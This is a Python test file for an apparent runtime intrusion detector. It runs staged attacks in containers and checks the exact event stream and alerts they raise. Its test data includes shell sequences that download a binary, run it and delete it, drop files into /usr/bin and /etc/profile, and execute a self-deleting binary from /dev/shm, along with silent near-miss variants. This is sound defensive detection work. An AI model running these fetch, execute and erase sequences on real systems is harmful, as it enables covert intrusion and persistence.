"""Both founding attacks and their near misses: the stream, and exactly the alerts it must give."""

from collections.abc import Iterator

import pytest

from tests.scenes.bundle import Bundle
from tests.scenes.notation import lines, word
from tests.scenes.stage import Stage
from tests.scenes.terminal import SHELL
from tests.scenes.web import serving


@pytest.fixture
def web(stage: Stage) -> Iterator[str]:
    """Where the payload can be downloaded."""
    with serving({"/tool": (stage.image / "bin/payload").read_bytes()}) as address:
        yield f"{address}/tool"


def test_someone_at_a_terminal_downloads_into_a_system_path(stage: Stage, web: str) -> None:
    container = stage.container(SHELL)
    with container.terminal() as terminal:
        terminal.enter(f"wget -q {web} -O /usr/bin/agent")
        terminal.enter("exit")

    assert stage.stream(container) == lines(
        f"""
        1 busybox exec /bin/busybox sh tty
        2 busybox fork from 1 tty
        2 busybox exec /bin/busybox wget -q {web} -O /usr/bin/agent tty
        2 busybox creation /usr/bin/agent tty
        2 busybox open /usr/bin/agent tty
        2 busybox modification /usr/bin/agent tty
        2 busybox end 0 tty
        1 busybox end 0 tty
        """
    )
    assert stage.alerts(container) == ["interactive drop: creation /usr/bin/agent"]


def test_someone_who_got_in_has_an_implant_write_to_etc(stage: Stage) -> None:
    container = stage.container(Bundle(("payload", "sleep 60000")))
    with stage.running(container), container.execute_on_terminal(SHELL) as terminal:
        terminal.enter("cp /bin/payload /tmp/implant")
        terminal.enter("/tmp/implant 'create /etc/profile.new' 'rename /etc/profile.new /etc/profile'")
        terminal.enter("exit")

    assert stage.stream(container) == lines(
        """
        1 payload exec /bin/payload payload 'sleep 60000'
        2 busybox exec /bin/busybox sh tty
        3 busybox fork from 2 tty
        3 busybox creation /tmp/implant tty
        3 busybox open /tmp/implant tty
        3 busybox end 0 tty
        4 busybox fork from 2 tty
        4 implant exec /tmp/implant /tmp/implant 'create /etc/profile.new' 'rename /etc/profile.new /etc/profile' tty
        4 implant creation /etc/profile.new tty
        4 implant open /etc/profile.new tty
        4 implant rename /etc/profile.new to /etc/profile tty
        4 implant end 0 tty
        2 busybox end 0 tty
        1 payload end 137
        """
    )
    assert stage.alerts(container) == ["interactive drop: creation /etc/profile.new"]


def test_a_download_runs_and_vanishes(stage: Stage, web: str) -> None:
    script = f"wget -q {web} -O /tmp/tool; chmod +x /tmp/tool; /tmp/tool 'create /tmp/loot'; rm /tmp/tool"
    container = stage.shell(script)

    assert stage.stream(container) == lines(
        f"""
        1 busybox exec /bin/busybox sh -c {word(script)}
        2 busybox fork from 1
        2 busybox exec /bin/busybox wget -q {web} -O /tmp/tool
        2 busybox creation /tmp/tool
        2 busybox open /tmp/tool
        2 busybox modification /tmp/tool
        2 busybox end 0
        3 busybox fork from 1
        3 busybox modification /tmp/tool
        3 busybox end 0
        4 busybox fork from 1
        4 tool exec /tmp/tool /tmp/tool 'create /tmp/loot'
        4 tool creation /tmp/loot
        4 tool open /tmp/loot
        4 tool end 0
        1 busybox deletion /tmp/tool
        1 busybox end 0
        """
    )
    assert stage.alerts(container) == ["download, run, delete: creation /tmp/tool, exec /tmp/tool, deletion /tmp/tool"]


def test_a_download_deletes_itself_while_it_runs(stage: Stage, web: str) -> None:
    script = f"cd /dev/shm; wget -q {web}; chmod 755 tool; ./tool 'unlink tool' 'exec /proc/self/exe exit%200'; true"
    container = stage.shell(script)

    assert stage.stream(container) == lines(
        f"""
        1 busybox exec /bin/busybox sh -c {word(script)}
        2 busybox fork from 1
        2 busybox exec /bin/busybox wget -q {web}
        2 busybox creation /dev/shm/tool
        2 busybox open /dev/shm/tool
        2 busybox modification /dev/shm/tool
        2 busybox end 0
        3 busybox fork from 1
        3 busybox modification /dev/shm/tool
        3 busybox end 0
        4 busybox fork from 1
        4 tool exec /dev/shm/tool ./tool 'unlink tool' 'exec /proc/self/exe exit%200'
        4 tool deletion /dev/shm/tool
        4 tool exec /dev/shm/tool /proc/self/exe 'exit 0'
        4 tool end 0
        1 busybox end 0
        """
    )
    assert stage.alerts(container) == [
        "download, run, delete: creation /dev/shm/tool, exec /dev/shm/tool, deletion /dev/shm/tool"
    ]


NEAR_MISSES = {
    "it stays": "wget -q {web} -O /tmp/tool; chmod +x /tmp/tool; /tmp/tool 'exit 0'; true",
    "it does not run": "wget -q {web} -O /tmp/tool; rm /tmp/tool",
    "it runs by another name": (
        "wget -q {web} -O /tmp/tool; chmod +x /tmp/tool; mv /tmp/tool /tmp/t; /tmp/t 'exit 0'; rm /tmp/t"
    ),
    "it is deleted elsewhere": (
        "wget -q {web} -O /tmp/t; chmod +x /tmp/t; /tmp/t 'exit 0'; mv /tmp/t /usr/bin/t; rm /usr/bin/t"
    ),
    "rm deletes it": "wget -q {web} -O /tmp/t; chmod +x /tmp/t; /tmp/t 'exit 0'; /opt/tools/rm 'unlink /tmp/t'",
    "no shell runs it": "wget -q {web} -O /tmp/t; chmod 777 /tmp/t; payload 'child exec /tmp/t exit%200'; rm /tmp/t",
    "another user deletes it": (
        "wget -q {web} -O /tmp/t; chmod 777 /tmp/t; /tmp/t 'exit 0'; chown 1000 /tmp/t; "
        "payload 'setuid 1000' 'exec /bin/payload unlink%20/tmp/t'"
    ),
    "it was no download": "cp /bin/payload /tmp/t; /tmp/t 'exit 0'; rm /tmp/t",
    "it goes into a system path, but nobody is at a terminal": "wget -q {web} -O /usr/bin/agent",
}


def test_near_misses_are_silent(stage: Stage, web: str) -> None:
    containers = {name: stage.shell(script.format(web=web)) for name, script in NEAR_MISSES.items()}
    assert {name: stage.alerts(container) for name, container in containers.items()} == {
        name: [] for name in NEAR_MISSES
    }
